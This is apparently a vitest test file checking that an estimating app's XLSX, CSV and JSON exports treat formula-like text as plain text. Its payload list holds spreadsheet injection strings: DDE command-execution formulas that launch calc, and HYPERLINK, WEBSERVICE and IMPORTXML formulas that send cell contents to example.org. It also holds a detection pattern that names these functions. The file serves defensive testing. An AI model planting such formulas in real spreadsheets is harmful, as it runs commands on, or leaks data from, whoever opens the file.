// Formula injection: words from documents and answers that spreadsheets would take for formulas.

import { type CellObject, read, type WorkBook } from '@e965/xlsx';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { AgentContext, Output } from '../../../src/agents/agent.ts';
import type { EstimateIssue, ScopeReport, Takeoff } from '../../../src/estimating/estimate.ts';
import { convert, soffice } from '../../support/libreoffice.ts';
import { bytesOf, contextOf, drive, line, place, smallEstimate } from './fixture.ts';

const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=HYPERLINK("http://example.org/?x="&A1,"click")',
  '=WEBSERVICE("http://example.org/"&A1)',
  '=IMPORTXML(CONCAT("http://example.org/?x=",A1),"//a")',
  '＝1+1',
  '＠SUM(1+1)',
  'x","=1+1","',
  'x\n=1+1',
  'x\r=1+1,2',
  '   =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '"=1+1"',
  ';=1+1',
  '|=1+1',
  '{=1+1}',
] as const;

/** A leading apostrophe of our own makes it text. */
const stings = /^(?!')[\s\p{C}]*"?[\s\p{C}]*[=+\-@＝＋－＠]/u;

const lines = payloads.map((words, index) => {
  const source = { ...place(index + 2), documentName: words, sheet: words, quote: words, cell: words };
  return line(`line_${index}`, {
    ...{ item: words, description: words, section: words, unit: words, trade: words, priceSource: words },
    ...{ source, quantitySource: { ...source, documentId: 'other' }, priceReference: source },
  });
});
const issues: EstimateIssue[] = payloads.map((message, index) => ({
  severity: 'low',
  code: message,
  message,
  source: lines[index]!.source,
}));
const estimate = smallEstimate({
  lines,
  issues,
  region: payloads[0],
  assumptions: [...payloads],
  byTrade: payloads.map((words) => ({
    ...{ trade: words, name: words, lineCount: 1, low: '1.00', likely: '1.00', high: '1.00', share: 0 },
  })),
  markups: payloads.map((name) => ({ name, percent: '1', amount: '0' })),
});
const takeoff: Takeoff = {
  lines: lines.map(({ id, source }) => ({
    ...{ lineId: id, unit: source.quote, net: '1', waste: '0', gross: '1', method: 'text' },
    ...{ working: source.quote, source },
  })),
  issues: [],
};
const notes = lines.map(({ source }) => ({
  ...{ text: source.quote!, cue: source.quote!, trade: source.quote, source },
}));
const scope: ScopeReport = {
  ...{ inclusions: notes, exclusions: notes, qualifications: notes, issues: [] },
  missing: payloads.map((words) => ({
    ...{ topic: words, trade: words, description: words, because: words, source: null },
  })),
};
const extracted = {
  documents: [
    {
      tables: [
        {
          ...{ kind: 'bill', title: '=HYPERLINK("http://example.org")' },
          lines: lines.map(({ id, item }) => ({
            ...{ id, quantity: item, rate: item, amount: item, remark: item },
          })),
        },
      ],
    },
  ],
  skipped: payloads.map((words) => ({ documentId: words, name: words, code: 'X', message: words })),
};

const outputs = (async () => {
  const inputs = { estimate, takeoff, scope_report: scope, extracted_tables: extracted };
  const documents: AgentContext['documents'] = payloads.map((name, index) => ({
    ...{ id: `document_${index}`, name, kind: 'xlsx', byteSize: 1, sha256: 'ab'.repeat(32) },
    bytes: async () => new Uint8Array(),
  }));
  return (await drive(contextOf(inputs, { documents }))).result.outputs;
})();
const written = async (kind: Output['kind']) => bytesOf(await outputs, kind);

function* cellsOf(workbook: WorkBook): Generator<[address: string, cell: CellObject]> {
  for (const sheet of workbook.SheetNames) {
    for (const [address, cell] of Object.entries(workbook.Sheets[sheet]!)) {
      if (!address.startsWith('!')) yield [`${sheet}!${address}`, cell];
    }
  }
}

/** The formulas of the exporter itself; whatever else is one was smuggled in. */
const ours =
  /^(ROUND\(|SUM\(|COUNTIF\(Lines!|SUMPRODUCT\(EXACT\(Lines!|SUMIF\(Lines!|IF\(E\$?\d+=0,|D\d+\+E\d+$)/;
const foreign = /http|cmd|DDE|WEBSERVICE|IMPORT|HYPERLINK|1\+1/;
/** As XML and spreadsheets read line breaks. */
const even = (words: string) => words.replaceAll(/\r\n?/g, '\n').replaceAll('_x000D_', '\n');

describe('words that look like formulas', () => {
  it('are text in every cell of the workbook, and stay text when a person edits them', async () => {
    const workbook = read(await written('export_xlsx'), { cellFormula: true, cellNF: true });
    const seen = new Set<string>();
    for (const [address, cell] of cellsOf(workbook)) {
      if (cell.f !== undefined) {
        expect(cell.f, address).toMatch(ours);
        expect(cell.f, address).not.toMatch(foreign);
      }
      if (cell.t !== 's') continue;
      seen.add(even(String(cell.v)));
      if (stings.test(String(cell.v))) expect(cell.z, `${address} ${JSON.stringify(cell.v)}`).toBe('@');
    }
    for (const words of payloads) expect(seen, JSON.stringify(words)).toContain(even(words));
  });

  it.skipIf(soffice === null)(
    'are text for LibreOffice, in the workbook and in the CSV',
    async () => {
      const [workbook, csv] = await convert(
        [
          { name: 'estimate.xlsx', bytes: await written('export_xlsx') },
          { name: 'lines.csv', bytes: await written('export_csv') },
        ],
        'xlsx',
      );
      const before = [...cellsOf(read(await written('export_xlsx')))].filter(([, { f }]) => f !== undefined);
      const after = [...cellsOf(read(workbook!))].filter(([, { f }]) => f !== undefined);
      expect(after.map(([address]) => address).sort()).toEqual(before.map(([address]) => address).sort());
      for (const [address, { f }] of after) expect(f, address).not.toMatch(foreign);
      const shown = new Set([...cellsOf(read(workbook!))].map(([, { v }]) => even(String(v))));
      for (const words of payloads) expect(shown, JSON.stringify(words)).toContain(even(words));
      for (const [address, { f }] of cellsOf(read(csv!))) expect(f, address).toBeUndefined();
    },
    90_000,
  );

  it('begin with an apostrophe in the CSV, and make no row or cell of their own', async () => {
    const text = new TextDecoder().decode(await written('export_csv'));
    const rows: string[][] = parse(text, { bom: true, record_delimiter: '\r\n' });
    expect(rows).toHaveLength(payloads.length + 1);
    for (const [index, words] of payloads.entries()) {
      const row = rows[index + 1]!;
      expect(row).toHaveLength(rows[0]!.length);
      for (const cell of row) expect(stings.test(cell), JSON.stringify(cell)).toBe(false);
      // The words themselves are all there.
      expect(row[4]!.replace(/^'/, '')).toBe(words);
    }
    // Programs that end a row at any line break find none outside of quotes.
    const bare = text.replaceAll(/"(?:[^"]|"")*"/g, '');
    expect(bare.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });

  it('lose nothing in JSON', async () => {
    const content = JSON.parse(new TextDecoder().decode(await written('export_json')));
    expect(content.estimate).toEqual(estimate);
    expect(content.takeoff).toEqual(takeoff);
    expect(content.scope).toEqual(scope);
    expect(content.documents.map(({ name }: { name: string }) => name)).toEqual(payloads);
  });

  it('name no file', async () => {
    for (const { name } of await outputs) expect(name).toMatch(/^[a-z0-9-]+\.(xlsx|csv|json)$/);
  });
});
